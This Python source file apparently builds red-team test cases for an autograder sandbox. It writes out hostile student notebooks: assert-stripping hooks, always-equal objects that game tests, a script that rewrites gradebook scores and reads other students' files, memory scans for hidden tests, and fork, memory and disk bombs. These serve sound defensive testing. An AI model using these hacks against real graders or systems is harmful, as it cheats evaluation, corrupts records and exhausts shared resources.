"""Hostile and broken submissions for the red-team suite, built from an assignment's source notebook.

Each case returns the bytes of the submitted file(s) and states the expected outcome. Cases are
written against health-economics (answers q1..q4 worth 2, 2, 2, 1 auto-graded points; q5 written)
but only through grade ids and the source notebook, so the solution text stays the instructor's.
"""

from __future__ import annotations

import copy
import json
from dataclasses import dataclass, field

import nbformat

FULL = 7.0  # auto-graded points of health-economics


@dataclass
class Case:
    student: str
    files: dict                      # file name -> bytes
    score: float | None              # expected auto-graded total (None: not checked)
    status: str                      # expected status
    problem: str = ""                # substring expected in the problems ("" = none required)
    why: str = ""
    extra: dict = field(default_factory=dict)


def _gid(cell):
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _cell(nb, gid):
    return next(c for c in nb.cells if _gid(c) == gid)


def _solution(source):
    return copy.deepcopy(source)


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode()


def _answer(nb, gid, code, keep_solution=True):
    cell = _cell(nb, gid)
    cell.source = (cell.source + "\n" if keep_solution else "") + code
    return nb


def _extra_after(nb, gid, code):
    """A code cell the student added after cell `gid`."""
    i = next(i for i, c in enumerate(nb.cells) if _gid(c) == gid)
    nb.cells.insert(i + 1, nbformat.v4.new_code_cell(code))
    return nb


WRONG_Q1 = 'oop = data.latest("oop_share", since=2015)\nmedians = oop.groupby("income_group")["value"].mean()\n'
WRONG_Q2 = 'home_oop = float(oop.loc[oop["iso3"] == course.peers[0], "value"].iloc[0])\n'


def cases(source: nbformat.NotebookNode, release: nbformat.NotebookNode, name: str, port: int) -> list[Case]:
    nb_file = f"{name}.ipynb"
    out: list[Case] = []

    def add(student, nb, score, status="graded", problem="", why="", files=None, **extra):
        data = {nb_file: _bytes(nb)} if nb is not None else {}
        data.update(files or {})
        out.append(Case(student, data, score, status, problem, why, extra))

    add("honest-a", _solution(source), FULL, why="the solution: full auto marks")
    add("untouched", copy.deepcopy(release), 0.0, why="the release as handed out: zero, no crash")

    # --- test cells edited, deleted, duplicated, retyped --------------------------------------
    nb = _solution(source)
    _cell(nb, "q1-answer").source = WRONG_Q1
    _cell(nb, "q1-tests").source = "pass"
    add("edit-test", nb, FULL - 2, why="edited test cell: the source's tests run anyway")

    nb = copy.deepcopy(release)
    nb.cells = [c for c in nb.cells if not (c.metadata.get("nbgrader", {}).get("grade") and
                                            c.cell_type == "code")]
    add("delete-tests", nb, 0.0, why="deleted test cells do not award their points")

    nb = _solution(source)
    i = next(i for i, c in enumerate(nb.cells) if _gid(c) == "q1-tests")
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    add("duplicate-test", nb, FULL, problem="appears more than once",
        why="a duplicated test cell (aborts stock nbgrader for the whole batch) is graded normally")

    nb = _solution(source)
    _cell(nb, "q2-answer").source = WRONG_Q2
    t = _cell(nb, "q2-tests")
    t.cell_type = "markdown"
    t.pop("outputs", None), t.pop("execution_count", None)
    add("retype-test", nb, FULL - 2, why="a test cell retyped as markdown still runs from the source")

    # --- kernel hooks -------------------------------------------------------------------------
    nb = copy.deepcopy(release)
    _cell(nb, "q1-answer").source = (
        "import ast\n"
        "class _NoAssert(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAssert())\n"
        "import builtins\nbuiltins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "medians = pd.Series({'Low': 1.0})\n")
    _cell(nb, "q2-answer").source = "home_oop = 1.0\n"
    add("patch-assert", nb, 0.0, why="assert removed by an AST transformer: tests run elsewhere")

    nb = copy.deepcopy(release)
    _cell(nb, "q1-answer").source = (
        "import sys\n"
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
        "sys.excepthook = lambda *a: None\n"
        "get_ipython().showtraceback = lambda *a, **k: None\n"
        "medians = pd.Series({'Low': 1.0})\n")
    add("traceback-hook", nb, 0.0, why="errors swallowed by hooks in the student's kernel only")

    nb = _solution(source)
    _answer(nb, "q1-answer", "get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])\n")
    _cell(nb, "q2-answer").source = WRONG_Q2
    add("input-transformer", nb, 2.0,
        why="every later cell becomes `pass` in the student's kernel: later answers are missing, tests "
            "still run (stock nbgrader scored this 2/2 per question)")

    # --- always-equal and proxy objects -------------------------------------------------------
    nb = copy.deepcopy(release)
    _cell(nb, "q1-answer").source = (
        "class AlwaysEqual(pd.Series):\n"
        "    def __eq__(self, other):\n"
        "        return True\n"
        "    __ne__ = lambda self, other: False\n"
        "medians = AlwaysEqual({'Low': 0.0, 'Lower middle': 0.0, 'Upper middle': 0.0, 'High': 0.0})\n")
    _cell(nb, "q2-answer").source = (
        "class F(float):\n"
        "    def __eq__(self, other): return True\n"
        "    def __le__(self, other): return True\n"
        "    def __ge__(self, other): return True\n"
        "    def __sub__(self, other): return 0.0\n"
        "    __rsub__ = __sub__\n"
        "home_oop = F(0.0)\n")
    _cell(nb, "q3-answer").source = (
        "class L(list):\n"
        "    def __eq__(self, other): return True\n"
        "above_median = L()\n")
    add("always-equal", nb, None, status="graded-with-problems", problem="could not be graded",
        why="objects with a rigged __eq__ cannot be carried out of the kernel: the submission is graded the "
            "nbgrader way instead (as stock nbgrader would score it) and listed for the instructor with the reason")

    # --- reaching the gradebook, the hidden tests, other students -----------------------------
    snoop = (
        "import glob, os, sqlite3\n"
        "_found = []\n"
        "for _p in ['../../../gradebook.db', '../../gradebook.db', '/work/main/exercises/gradebook.db'] + "
        "glob.glob('/tmp/**/gradebook.db', recursive=True) + glob.glob('/work/*/exercises/gradebook.db'):\n"
        "    try:\n"
        "        _db = sqlite3.connect(_p)\n"
        "        _db.execute('update grade set manual_score = 99')\n"
        "        _db.commit()\n"
        "        _found.append('WROTE ' + _p)\n"
        "    except Exception as _e:\n"
        "        pass\n"
        "for _p in glob.glob('/work/*/exercises/source/*/*.ipynb') + glob.glob('/tmp/**/*.ipynb', recursive=True) "
        "+ glob.glob('../../../source/*/*.ipynb') + glob.glob('/work/*/exercises/submitted/*/*/*.ipynb') "
        "+ glob.glob('/work/*/.git/objects/*/*'):\n"
        "    try:\n"
        "        _found.append('READ ' + _p + ' ' + open(_p, errors='replace').read()[:100000])\n"
        "    except Exception:\n"
        "        pass\n"
        "print('SNOOP', len(_found), '\\n'.join(_found)[:5000])\n")
    nb = _solution(source)
    _extra_after(nb, "setup", snoop)
    add("snoop", nb, FULL, why="gradebook, source notebooks and other submissions are out of reach",
        snoop=True)

    # needles kept as bytes (hex) so the snooper never finds its own search strings
    needles = ['6d6174682e6973636c6f736528666c6f6174286d656469616e735b5f67726f75705d292c205f77616e74', '6374797065732e737472696e675f6174283029', '424547494e2048494444454e2054455354530a']
    memsnoop = (
        "import gc, sys\n"
        f"_needles = [bytes.fromhex(h) for h in {needles!r}]\n"
        "_hits = set()\n"
        "def _look(v):\n"
        "    if type(v) is str:\n"
        "        b = v.encode('utf-8', 'ignore')\n"
        "        for _n in _needles:\n"
        "            if _n in b:\n"
        "                _hits.add(_n)\n"
        "for _o in gc.get_objects():\n"
        "    try:\n"
        "        _vals = _o.values() if isinstance(_o, dict) else _o if isinstance(_o, (list, tuple)) else []\n"
        "        for _v in list(_vals):\n"
        "            _look(_v)\n"
        "    except Exception:\n"
        "        pass\n"
        "_f = sys._getframe()\n"
        "while _f is not None:\n"
        "    for _v in list(_f.f_locals.values()):\n"
        "        _look(_v)\n"
        "        if isinstance(_v, dict):\n"
        "            [_look(x) for x in list(_v.values())]\n"
        "    _f = _f.f_back\n"
        "print('MEMSNOOP', len(_hits), sorted(_hits))\n")
    nb = _solution(source)
    _extra_after(nb, "setup", memsnoop)
    add("memory-snoop", nb, FULL, why="the sandbox's memory holds no hidden tests and nothing of other "
        "students (it is forked from a clean process)")

    # --- ending the process --------------------------------------------------------------------
    nb = _solution(source)
    _cell(nb, "q2-answer").source = "import sys\nsys.exit(3)\n"
    add("sys-exit", nb, FULL - 2, why="sys.exit in a cell is an error in that cell only")

    nb = _solution(source)
    _extra_after(nb, "q2-tests", "import os\nos._exit(0)\n")
    add("os-exit", nb, 4.0, status="graded-with-problems", problem="Python process ended",
        why="os._exit ends the run: answers before it are graded, the rest score 0")

    nb = _solution(source)
    _extra_after(nb, "q3-tests", "import ctypes\nctypes.string_at(0)\n")
    add("segfault", nb, 6.0, status="graded-with-problems", problem="SIGSEGV",
        why="a segfault ends the run: answers before it are graded")

    nb = _solution(source)
    _extra_after(nb, "q1-tests", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
                                 "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n")
    add("infinite-loop", nb, 2.0, status="graded-with-problems", problem="ran longer than",
        why="a loop ignoring SIGINT/SIGTERM is stopped by the wall-clock limit")

    # --- resource exhaustion -------------------------------------------------------------------
    nb = _solution(source)
    _extra_after(nb, "setup", "_hog = []\nwhile True:\n    _hog.append(bytearray(50_000_000))\n")
    add("memory-bomb", nb, FULL, why="the memory limit turns the bomb into a MemoryError in its own cell")

    nb = _solution(source)
    _extra_after(nb, "q1-tests", "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n"
                                 "        pass\n")
    add("fork-bomb", nb, 2.0, status="graded-with-problems", problem="ran longer than",
        why="the process limit caps the bomb; the wall clock ends it; no process survives")

    nb = _solution(source)
    _extra_after(nb, "setup", "import os\n_i = 0\ntry:\n    while True:\n"
                              "        with open(f'fill{_i}.bin', 'wb') as _f:\n"
                              "            _f.write(b'0' * 8_000_000)\n        _i += 1\n"
                              "except OSError as _e:\n    print('disk full after', _i, 'files:', _e)\n")
    add("disk-fill", nb, FULL, why="a private, small disk: the writes fail, the machine's disk is untouched")

    nb = _solution(source)
    _extra_after(nb, "setup", "print('x' * 20_000_000)\n")
    add("big-print", nb, FULL, why="a 20 MB one-line print is cut to a few KB in the graded notebook",
        big_print=True)

    nb = _solution(source)
    _extra_after(nb, "setup",
                 "import subprocess, os, sys\n"
                 "subprocess.Popen(['setsid', 'sleep', '600'])\n"
                 "subprocess.Popen([sys.executable, '-c', 'import os, time\\nos.setsid()\\n"
                 "if os.fork() == 0:\\n    time.sleep(600)'])\n")
    add("background", nb, FULL, why="setsid/double-forked children die with the sandbox")

    nb = _solution(source)
    _extra_after(nb, "setup",
                 "import glob, socket\n_net = []\n"
                 f"for _host, _port in [('127.0.0.1', {port}), ('1.1.1.1', 80), ('pypi.org', 443)]:\n"
                 "    try:\n"
                 "        socket.create_connection((_host, _port), timeout=2).sendall(b'LEAK')\n"
                 "        _net.append('connected ' + _host)\n"
                 "    except OSError as _e:\n"
                 "        _net.append(f'{_host}: {_e}')\n"
                 "for _path in glob.glob('/run/*.sock') + glob.glob('/var/run/*.sock') + ['/run/iome-redteam.sock']:\n"
                 "    try:\n"
                 "        _u = socket.socket(socket.AF_UNIX)\n"
                 "        _u.connect(_path)\n"
                 "        _u.sendall(b'LEAK')\n"
                 "        _net.append('connected ' + _path)\n"
                 "    except OSError as _e:\n"
                 "        _net.append(f'{_path}: {_e}')\n"
                 "print(_net)\n")
    add("network", nb, FULL, why="no network: not even the grading machine's loopback services")

    nb = _solution(source)
    for c in nb.cells:
        c.metadata.pop("nbgrader", None)
    add("no-metadata", nb, FULL, status="graded-with-problems", problem="none of the assignment's cell ids",
        why="work pasted into a fresh notebook (no nbgrader metadata) is run in order and graded, and flagged")

    # --- broken files ---------------------------------------------------------------------------
    add("bad-json", None, 0.0, status="ungradable", problem="not valid JSON",
        files={nb_file: _bytes(_solution(source))[:-200]})
    add("empty-file", None, 0.0, status="ungradable", problem="empty", files={nb_file: b""})
    raw = json.loads(_bytes(_solution(source)))
    raw["nbformat"] = 99
    add("wrong-nbformat", None, 0.0, status="ungradable", problem="nbformat",
        files={nb_file: json.dumps(raw).encode()})
    add("wrong-name", None, FULL, problem="graded it as",
        files={"Health Economics (1).ipynb": _bytes(_solution(source))},
        why="one notebook under another name is graded, with a note")
    add("extra-files", _solution(source), FULL, problem="extra files not graded",
        files={"notes.txt": b"hello", "pandas.py": b"raise SystemExit('shadowed')\n"},
        why="extra files are reported, never run, and shadow nothing")
    add("honest-z", _solution(source), FULL, why="the last student in the batch is graded too")
    return out
